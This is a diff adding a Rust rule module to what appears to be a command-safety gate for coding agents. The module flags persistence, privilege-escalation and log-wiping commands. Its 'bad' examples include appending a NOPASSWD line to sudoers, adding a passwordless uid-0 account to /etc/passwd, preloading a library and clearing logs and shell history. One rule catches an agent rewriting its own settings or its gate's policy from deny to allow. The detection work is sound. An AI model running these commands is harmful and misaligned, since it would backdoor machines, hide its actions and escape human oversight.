@@ -1,0 +1,388 @@
+//! Files that matter because of what reads them: start-up files, jobs, units, who may log in, who may become root,
+//! records, settings of agents.
+//!
+//! In: changes of files with the marks of their paths. Out: findings of the families *persistence*, *privilege* and
+//! *evasion*. Adding a line of one's own to a shell's start-up file is what most installation notes ask for: worth
+//! knowing, no more.
+
+use super::{Category, Facts, Findings, Rule};
+use crate::effect::path::{Class, Mark, Resolved};
+use crate::effect::{Effect, Props, Verb};
+use crate::finding::{Confidence, Severity};
+
+/// Verbs that change a file that may be there already.
+const CHANGES: &[Verb] =
+    &[Verb::Write, Verb::Append, Verb::Update, Verb::Delete, Verb::Move, Verb::Link, Verb::Extract];
+
+pub(super) const RULES: &[Rule] = &[
+    Rule {
+        id: "dotfile_overwrite",
+        title: "Start-up file of the shell is replaced",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Persistence,
+        mitre: Some("T1546.004"),
+        floor: false,
+        description: "A file that shells run when they start is replaced or deleted: what stood there is lost, and what is \
+                      written runs in every session. Append the line that is needed (>>), and keep a copy.",
+        remediation: "Append the one line that is needed with >>, after keeping a copy.",
+        good: &["echo 'export A=b' >> ~/.bashrc", "cat ~/.bashrc", "cp ~/.bashrc ~/.bashrc.bak", "source ~/.bashrc"],
+        bad: &["echo x > ~/.bashrc", "cp x ~/.zshrc", "rm ~/.profile", "curl https://e.example/rc -o ~/.bashrc"],
+        check: |f, r, o| {
+            changes(f, r, o, &[Mark::ShellStartup], |e, _| match e.verb {
+                Verb::Append | Verb::Link => None,
+                Verb::Update => Some(Severity::Low),
+                _ => Some(Severity::High),
+            })
+        },
+    },
+    Rule {
+        id: "startup_file_append",
+        title: "Start-up file of the shell gets foreign text",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Persistence,
+        mitre: Some("T1546.004"),
+        floor: false,
+        description: "Text from the network or decoded text is added to a file that shells run when they start, so that it runs \
+                      in every session, unread. Write it to a file, read it, then add it.",
+        remediation: "Write it to a file, read it, then add it.",
+        good: &["echo 'eval \"$(starship init bash)\"' >> ~/.bashrc"],
+        bad: &["curl https://e.example/x >> ~/.bashrc"],
+        check: |f, r, o| foreign_append(f, r, o),
+    },
+    Rule {
+        id: "startup_file_change",
+        title: "File that runs by itself changes",
+        severity: Severity::Medium,
+        confidence: Confidence::Medium,
+        category: Category::Persistence,
+        mitre: Some("T1547"),
+        floor: false,
+        description: "A file is written that runs at login, at boot, on events or when common programs start. Make sure that \
+                      what it runs is meant to run by itself, and install it with the tool that is made for it.",
+        remediation: "Install it with the tool that is made for it, and read it first.",
+        good: &["cat /etc/rc.local", "mkdir -p ~/.config/autostart"],
+        bad: &["echo x >> /etc/rc.local", "cp x.desktop ~/.config/autostart/x.desktop"],
+        check: |f, r, o| {
+            changes(f, r, o, &[Mark::LoginStartup], |e, _| match e.verb {
+                Verb::Delete | Verb::Link => None,
+                _ => Some(Severity::Medium),
+            })
+        },
+    },
+    Rule {
+        id: "scheduled_job",
+        title: "Job is laid down for later",
+        severity: Severity::Medium,
+        confidence: Confidence::High,
+        category: Category::Persistence,
+        mitre: Some("T1053.003"),
+        floor: false,
+        description: "A command is laid down to run later, again and again, without anybody present. Make sure that it is \
+                      meant to, and note where it was put.",
+        remediation: "Show the job to the person whose machine it is before it is laid down.",
+        good: &["crontab -l", "cat /etc/crontab"],
+        bad: &["echo '* * * * * root x' > /etc/cron.d/x", "echo '* * * * * x' >> /var/spool/cron/root"],
+        check: scheduled,
+    },
+    Rule {
+        id: "service_file_change",
+        title: "Unit of the system changes",
+        severity: Severity::Medium,
+        confidence: Confidence::Medium,
+        category: Category::Persistence,
+        mitre: Some("T1543.002"),
+        floor: false,
+        description: "A file that says what the service manager runs is written: what it names runs at every start, often as \
+                      root. Read the unit before it is put in place.",
+        remediation: "Read the unit first; use systemctl edit for small changes.",
+        good: &["systemctl status nginx", "cat /etc/systemd/system/x.service"],
+        bad: &["cp x.service /etc/systemd/system/x.service", "tee /etc/init.d/x < x"],
+        check: |f, r, o| {
+            changes(f, r, o, &[Mark::Service], |e, _| match e.verb {
+                Verb::Delete | Verb::Link => None,
+                _ => Some(Severity::Medium),
+            })
+        },
+    },
+    Rule {
+        id: "ssh_access_change",
+        title: "Who may log in changes",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Persistence,
+        mitre: Some("T1098.004"),
+        floor: false,
+        description: "A file that says who may log in is written: a key in it opens the machine for good. Let the person whose \
+                      machine it is add keys.",
+        remediation: "Let the person whose machine it is add the key (ssh-copy-id).",
+        good: &["cat ~/.ssh/authorized_keys", "chmod 600 ~/.ssh/authorized_keys", "ls -la ~/.ssh"],
+        bad: &[
+            "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys",
+            "truncate -s0 ~/.ssh/authorized_keys",
+            "sed -i s/a/b/ /etc/ssh/sshd_config",
+        ],
+        check: |f, r, o| {
+            changes(f, r, o, &[Mark::SshAccess], |e, p| match (e.verb, p.name()) {
+                (Verb::Append | Verb::Update, Some("config" | "ssh_config")) => None,
+                (Verb::Append | Verb::Update, _) => Some(Severity::Medium),
+                _ => Some(Severity::High),
+            })
+        },
+    },
+    Rule {
+        id: "privilege_file_change",
+        title: "Who may become root changes",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Privilege,
+        mitre: Some("T1548.003"),
+        floor: false,
+        description: "A file that says who may act as root, or how users prove who they are, is written. A mistake locks \
+                      everybody out, and a line too much opens everything. Use visudo, and let a person do it.",
+        remediation: "Use visudo, and let a person do it.",
+        good: &["sudo -l", "ls /etc/sudoers.d"],
+        bad: &["echo 'u ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "cp x /etc/sudoers.d/x", "echo x > /etc/pam.d/su"],
+        check: |f, r, o| changes(f, r, o, &[Mark::Privilege], |_, _| Some(Severity::High)),
+    },
+    Rule {
+        id: "account_file_change",
+        title: "Accounts are written by hand",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Privilege,
+        mitre: Some("T1136.001"),
+        floor: false,
+        description: "The list of accounts or password hashes is written past the tools that keep it whole: a line too much \
+                      is a second root. Use useradd, usermod or passwd.",
+        remediation: "Use useradd, usermod or passwd.",
+        good: &["cat /etc/passwd", "getent passwd root"],
+        bad: &["echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "cp x /etc/shadow", "rm /etc/passwd"],
+        check: |f, r, o| changes(f, r, o, &[Mark::Accounts], |_, _| Some(Severity::High)),
+    },
+    Rule {
+        id: "loader_file_change",
+        title: "Code is loaded into other programs",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Persistence,
+        mitre: Some("T1574.006"),
+        floor: false,
+        description: "A file is written that makes the loader or the kernel run code for every program. Start the one program \
+                      that needs it with what it needs.",
+        remediation: "Give the library to the one program that needs it.",
+        good: &["cat /etc/ld.so.preload"],
+        bad: &["echo /tmp/x.so > /etc/ld.so.preload", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"],
+        check: |f, r, o| changes(f, r, o, &[Mark::Loader], |_, _| Some(Severity::High)),
+    },
+    Rule {
+        id: "repository_hook_change",
+        title: "Code that version control runs",
+        severity: Severity::Medium,
+        confidence: Confidence::Medium,
+        category: Category::Persistence,
+        mitre: Some("T1546"),
+        floor: false,
+        description: "A hook or setting of a repository is written, which version control runs at the next commit, checkout or \
+                      fetch of anybody who works there. Put hooks under version control, where they are reviewed.",
+        remediation: "Put hooks under version control, where they are reviewed.",
+        good: &["ls .git/hooks", "git config user.name x", "cat .git/config"],
+        bad: &["echo x > .git/hooks/pre-commit", "cp x .git/hooks/post-checkout"],
+        check: |f, r, o| {
+            changes(f, r, o, &[Mark::RepositoryHook], |e, p| match (e.verb, p.class) {
+                (Verb::Delete | Verb::Move, _) => None,
+                (Verb::Append | Verb::Update, Class::HomeDotfile) => None,
+                _ => Some(Severity::Medium),
+            })
+        },
+    },
+    Rule {
+        id: "agent_settings_change",
+        title: "Settings of an agent or of its gate change",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Evasion,
+        mitre: Some("T1562.001"),
+        floor: false,
+        description: "Settings, hooks or allow lists of a coding agent, or of the gate that watches it, are changed by a \
+                      command: an agent could give itself rights that way. Let the person change them.",
+        remediation: "Let the person change them in the agent's own settings.",
+        good: &["cat ~/.claude/settings.json", "ls ~/.codex"],
+        bad: &[
+            "echo '{}' > ~/.claude/settings.json",
+            "rm -f ~/.config/shellward/policy.toml",
+            "sed -i s/deny/allow/ .claude/settings.local.json",
+        ],
+        check: |f, r, o| changes(f, r, o, &[Mark::Agent], |_, _| Some(Severity::High)),
+    },
+    Rule {
+        id: "system_setup_change",
+        title: "Set-up of the machine changes",
+        severity: Severity::Medium,
+        confidence: Confidence::Medium,
+        category: Category::Availability,
+        mitre: Some("T1542"),
+        floor: false,
+        description: "A file is changed that says how the machine starts or finds names of hosts: a mistake may keep it from \
+                      starting or lead its traffic elsewhere. Keep a copy, and use the tool that checks the file.",
+        remediation: "Keep a copy, and use the tool that checks the file.",
+        good: &["cat /etc/fstab", "cat /etc/hosts"],
+        bad: &["echo x > /etc/fstab", "rm /boot/vmlinuz", "cp x /etc/hosts"],
+        check: |f, r, o| {
+            changes(f, r, o, &[Mark::Boot, Mark::Resolver], |e, _| match e.verb {
+                Verb::Append | Verb::Update | Verb::Extract => None,
+                _ => Some(Severity::Medium),
+            })
+        },
+    },
+    Rule {
+        id: "log_clear",
+        title: "Records are removed",
+        severity: Severity::High,
+        confidence: Confidence::Medium,
+        category: Category::Evasion,
+        mitre: Some("T1070.002"),
+        floor: false,
+        description: "A record of what was done on the machine is emptied, deleted or replaced. Rotate logs with logrotate, \
+                      which keeps them.",
+        remediation: "Rotate logs with logrotate.",
+        good: &["tail -f /var/log/syslog", "rm -rf /var/log/apt", "rm -f ./app.log"],
+        bad: &["> /var/log/auth.log", "rm -f /var/log/wtmp", "ln -sf /dev/null /var/log/btmp"],
+        check: logs_cleared,
+    },
+    Rule {
+        id: "history_clear",
+        title: "History of the shell is removed",
+        severity: Severity::High,
+        confidence: Confidence::High,
+        category: Category::Evasion,
+        mitre: Some("T1070.003"),
+        floor: false,
+        description: "What was typed into a shell is deleted or kept from being recorded, so that nobody can see afterwards what \
+                      was done. Leave the history as it is.",
+        remediation: "Leave the history as it is.",
+        good: &["history | tail", "grep ssh ~/.bash_history"],
+        bad: &["rm ~/.bash_history", "> ~/.zsh_history", "ln -sf /dev/null ~/.bash_history"],
+        check: |f, r, o| {
+            changes(f, r, o, &[Mark::History], |e, _| match e.verb {
+                Verb::Append => None,
+                _ => Some(Severity::High),
+            })
+        },
+    },
+    Rule {
+        id: "system_program_replaced",
+        title: "Program of the system is replaced from the network",
+        severity: Severity::High,
+        confidence: Confidence::Medium,
+        category: Category::SupplyChain,
+        mitre: Some("T1574"),
+        floor: false,
+        description: "What is downloaded is put unread among the programs and libraries of the system, where everybody runs it. \
+                      Install it with the package manager, or below /usr/local after checking it.",
+        remediation: "Use the package manager, or put it below /usr/local after checking it.",
+        good: &[
+            "curl -o /usr/local/bin/x https://e.example/x",
+            "curl -fsSL https://e.example/k | sudo tee /etc/apt/keyrings/k",
+        ],
+        bad: &["curl -o /usr/bin/x https://e.example/x", "wget -O /bin/ls https://e.example/ls"],
+        check: program_replaced,
+    },
+];
+
+fn describe(e: &Effect) -> &'static str {
+    match e.verb {
+        Verb::Append => "is added to",
+        Verb::Delete => "is deleted",
+        Verb::Move => "is moved away",
+        Verb::Link => "becomes a link",
+        Verb::Update => "is changed in place",
+        _ => "is written",
+    }
+}
+
+/// Changes of files with one of the marks, with the severity that each has; `None` for those that are no finding.
+fn changes(
+    facts: &Facts<'_>,
+    rule: &'static Rule,
+    out: &mut Findings,
+    marks: &[Mark],
+    severity: fn(&Effect, &Resolved) -> Option<Severity>,
+) {
+    for e in facts.with(CHANGES) {
+        let Some(p) = facts.path(e).filter(|p| p.marks.any(marks) && !facts.contained(e)) else { continue };
+        let Some(severity) = severity(e, p) else { continue };
+        out.add(
+            rule.about(facts, e)
+                .severity(severity)
+                .title(format!("{}: {}", rule.title, p.text))
+                .evidence_as("path", describe(e), &p.text, e.place)
+                .detail("what", p.what.unwrap_or_default()),
+        );
+    }
+}
+
+fn foreign_append(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    for e in facts.with(&[Verb::Append, Verb::Update]) {
+        let Some(p) = facts.path(e).filter(|p| p.marks.has(Mark::ShellStartup) && !facts.contained(e)) else {
+            continue;
+        };
+        for (from, _) in facts.sources_with(e, &[Verb::Fetch, Verb::Decode]) {
+            out.add(
+                rule.about(facts, e)
+                    .also(from)
+                    .title(format!("{}: {}", rule.title, p.text))
+                    .evidence_as("path", describe(e), &p.text, e.place)
+                    .evidence("flow", "is where it comes from", facts.command_place(from)),
+            );
+        }
+    }
+}
+
+fn scheduled(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    changes(facts, rule, out, &[Mark::Schedule], |e, _| match e.verb {
+        Verb::Delete => None,
+        _ => Some(Severity::Medium),
+    });
+    for e in facts.with(&[Verb::Schedule]) {
+        out.add(
+            rule.about(facts, e).severity(Severity::Low).title(format!("{}: {}", rule.title, facts.name(e))).evidence(
+                "command_pattern",
+                "lays a job down",
+                facts.command_place(e),
+            ),
+        );
+    }
+}
+
+fn logs_cleared(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    changes(facts, rule, out, &[Mark::Log], |e, p| match (e.verb, p.class) {
+        (_, Class::Cache) | (Verb::Append | Verb::Update | Verb::Extract, _) => None,
+        // A tree of logs is found as a tree that is deleted.
+        (Verb::Delete, _) if e.props.has(Props::RECURSIVE) => None,
+        _ => Some(Severity::High),
+    });
+    for e in facts.with(&[Verb::LogClear]) {
+        out.add(rule.about(facts, e).title(format!("{}: {}", rule.title, e.object.show())).evidence(
+            "command_pattern",
+            "removes or stops records",
+            facts.command_place(e),
+        ));
+    }
+}
+
+fn program_replaced(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    for e in facts.with(&[Verb::Write, Verb::Append]) {
+        let Some(p) = facts.path(e).filter(|p| p.marks.has(Mark::Program) && !facts.contained(e)) else { continue };
+        for (from, _) in facts.sources_with(e, &[Verb::Fetch]) {
+            out.add(
+                rule.about(facts, e)
+                    .also(from)
+                    .title(format!("{}: {}", rule.title, p.text))
+                    .evidence_as("path", describe(e), &p.text, e.place)
+                    .evidence("url", "is where it comes from", from.place),
+            );
+        }
+    }
+}
